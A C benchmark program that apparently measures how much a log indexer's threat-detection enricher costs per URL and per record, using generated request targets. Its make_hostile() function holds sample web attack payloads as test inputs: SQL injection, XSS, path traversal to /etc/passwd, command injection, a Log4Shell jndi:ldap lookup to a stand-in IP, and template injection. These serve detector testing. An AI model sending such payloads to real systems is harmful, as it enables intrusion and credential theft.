/*
 * threat_bench.c - what looking for attacks costs a record.
 *
 *     threat_bench [--engine NAME] [--runs N] [--json] [FILE]
 *
 * FILE: request targets, one a line, instead of those that are made here.
 * Printed is the least of the runs, in nanoseconds a record: for URLs alone
 * (each is looked at anew), and for whole records with agents and referrers
 * as they repeat in a log.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "common/record.h"
#include "common/scope.h"
#include "indexer/config.h"
#include "indexer/enrich/agent_memo.h"
#include "indexer/enrich/enrich.h"
#include "indexer/enrich/threat/inspector.h"

#define SAMPLES 2000
#define LINE    400

struct kind {
    const char *name;
    char (*lines)[LINE];
    size_t count;
};

static uint64_t state = 88172645463325252u; /* xorshift: the same samples each time */

static unsigned pick(unsigned below)
{
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (unsigned)(state >> 33) % below;
}

#define ANY(...)                                                                                   \
    __extension__({                                                                                \
        static const char *const any_[] = {__VA_ARGS__};                                           \
        any_[pick((unsigned)ARRAY_LEN(any_))];                                                     \
    })

static void make_plain(char *out)
{
    snprintf(out, LINE, "/%s/%s/%s-%u.%s", ANY("assets", "blog", "products", "static/js", "images"),
             ANY("2024", "summer", "vendor", "wp-content", "news"),
             ANY("main", "the-best-of", "select-a-plan", "logo", "jquery.min"), pick(100000),
             ANY("js", "html", "png", "css", "php"));
}

static void make_query(char *out)
{
    snprintf(out, LINE, "/%s?id=%u&page=%u&utm_source=%s&sid=%08x%08x",
             ANY("search", "api/v1/items", "cart"), pick(1000000), pick(50),
             ANY("newsletter", "google", "mail_2024"), pick(1u << 30), pick(1u << 30));
}

static void make_search(char *out)
{
    snprintf(out, LINE, "/search?q=%s%%20%s+%s&lang=%s&redirect=https%%3A%%2F%%2Fexample.org%%2F%u",
             ANY("red", "union", "caf%C3%A9", "O%27Reilly"), ANY("shoes", "of", "and", "select"),
             ANY("women", "workers", "tables", "2024"), ANY("en", "de"), pick(10000));
}

static void make_hostile(char *out)
{
    snprintf(out, LINE, "/%s%u%s", ANY("item?id=", "?q=x", "p?file="), pick(1000),
             ANY("%27%20union%20select%201,2,password%20from%20users--%20",
                 "%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "../../../../etc/passwd%00",
                 ";cat%20/etc/hosts", "$%7Bjndi:ldap://203.0.113.1/a%7D",
                 "%2527%2520or%25201%253D1", "{{7*7}}"));
}

static double now_ns(void)
{
    struct timespec t;

    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t); /* the machine may do other things besides */
    return (double)t.tv_sec * 1e9 + (double)t.tv_nsec;
}

static double run_urls(struct inspector *inspector, const struct kind *kind, uint64_t *found)
{
    struct threat_findings findings;
    double start = now_ns();

    for (size_t i = 0; i < kind->count; i++) {
        findings = (struct threat_findings){0};
        inspector_look(inspector, PART_URL, slice_of(kind->lines[i]), &findings);
        *found += findings.count > 0;
    }
    return (now_ns() - start) / (double)kind->count;
}

static void fill(struct record *record, const char *url, size_t i)
{
    static char agent[128];

    record_clear(record);
    arena_clear(record->arena);
    snprintf(agent, sizeof(agent),
             "Mozilla/5.0 (X11; Linux x86_64; rv:%u.0) Gecko/20100101 Firefox/%u.0",
             (unsigned)(i % 40), (unsigned)(i % 40));
    record_set_text(record, FIELD_URL_ORIGINAL, slice_of(url));
    record_set_text(record, FIELD_USER_AGENT_ORIGINAL, slice_of(agent));
    record_set_text(record, FIELD_HTTP_REQUEST_REFERRER,
                    slice_of(i % 3 ? "https://www.example.org/a" : "-"));
}

/* Time of the enricher alone: a round without it is taken off. */
static double run_records(struct enrich *enrich, struct record *record, const struct kind *kind)
{
    double start = now_ns(), alone;

    for (size_t i = 0; i < kind->count; i++)
        fill(record, kind->lines[i], i);
    alone = now_ns() - start;
    start = now_ns();
    for (size_t i = 0; i < kind->count; i++) {
        fill(record, kind->lines[i], i);
        enrich->type->apply(enrich, record);
    }
    return (now_ns() - start - alone) / (double)kind->count;
}

static struct kind make_kind(const char *name, void (*make)(char *out))
{
    struct kind kind = {name, calloc(SAMPLES, LINE), SAMPLES};

    for (size_t i = 0; kind.lines && i < SAMPLES; i++)
        make(kind.lines[i]);
    return kind;
}

static struct kind read_kind(const char *path)
{
    struct kind kind = {path, NULL, 0};
    scoped_file FILE *file = fopen(path, "re");
    char(*lines)[LINE];

    while (file && (lines = realloc(kind.lines, (kind.count + 1) * LINE))) {
        kind.lines = lines;
        if (!fgets(lines[kind.count], LINE, file))
            break;
        lines[kind.count][strcspn(lines[kind.count], "\n")] = '\0';
        kind.count++;
    }
    return kind;
}

static void bench(struct inspector *inspector, struct enrich *enrich, struct record *record,
                  const struct kind *kind, int runs, bool json)
{
    double urls = 1e18, records = 1e18, took;
    uint64_t found = 0;

    for (int run = 0; run < runs && kind->count; run++) {
        found = 0;
        took = run_urls(inspector, kind, &found);
        urls = took < urls ? took : urls;
        took = run_records(enrich, record, kind);
        records = took < records ? took : records;
    }
    printf(json ? "{\"kind\":\"%s\",\"url_ns\":%.0f,\"record_ns\":%.0f,\"found\":%.3f}\n"
                : "%-10s %7.0f ns a URL %7.0f ns a record  %.1f %% found\n",
           kind->name, urls, records,
           (json ? 1 : 100) * (double)found / (double)(kind->count ? kind->count : 1));
}

int main(int argc, char **argv)
{
    const char *engine = "auto", *file = NULL;
    int runs = 20;
    bool json = false;
    struct indexer_config config = {0};
    struct threat_book *book;
    struct inspector *inspector;
    struct enrich *enrich;
    struct agent_memo *agents;
    struct config_report report;
    struct arena arena;
    struct record record;
    struct kind kinds[5];
    struct error err;
    double start = now_ns();
    size_t count = 0;

    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--engine") == 0 && i + 1 < argc)
            engine = argv[++i];
        else if (strcmp(argv[i], "--runs") == 0 && i + 1 < argc)
            runs = (int)strtol(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--json") == 0)
            json = true;
        else
            file = argv[i];
    }
    config.threats = (struct threats_config){
        .enabled = true, .threshold = 5, .cache_entries = 4096, .engine = (char *)engine};
    config_report_init(&report);
    if (threat_book_open(&config.threats, &report, &book, &err) ||
        inspector_open(&inspector, &err) || inspector_use(inspector, book, &err) ||
        agent_memo_open(&config, &agents, &err) || enrich_threat.open(&config, &enrich, &err)) {
        fprintf(stderr, "threat_bench: %s\n", err.text);
        return 1;
    }
    enrich->agents = agents;
    if (!json)
        printf(
            "engine %s, %u rules, %u patterns (%u without literals), twice compiled in %.0f ms\n",
            book->engine->name, book->rules.count, book->trial_count,
            book->searches[VIEW_ANY].always_count, (now_ns() - start) / 1e6);
    arena_init(&arena, 64u << 10, 64u << 20);
    record_init(&record, &arena);
    if (file) {
        kinds[count++] = read_kind(file);
    } else {
        kinds[count++] = make_kind("plain", make_plain);
        kinds[count++] = make_kind("query", make_query);
        kinds[count++] = make_kind("search", make_search);
        kinds[count++] = make_kind("hostile", make_hostile);
    }
    for (size_t i = 0; i < count; i++) {
        bench(inspector, enrich, &record, &kinds[i], runs, json);
        free(kinds[i].lines);
    }
    enrich_threat.close(enrich);
    agent_memo_close(agents);
    inspector_close(inspector);
    threat_book_close(book);
    config_report_release(&report);
    arena_release(&arena);
    return 0;
}
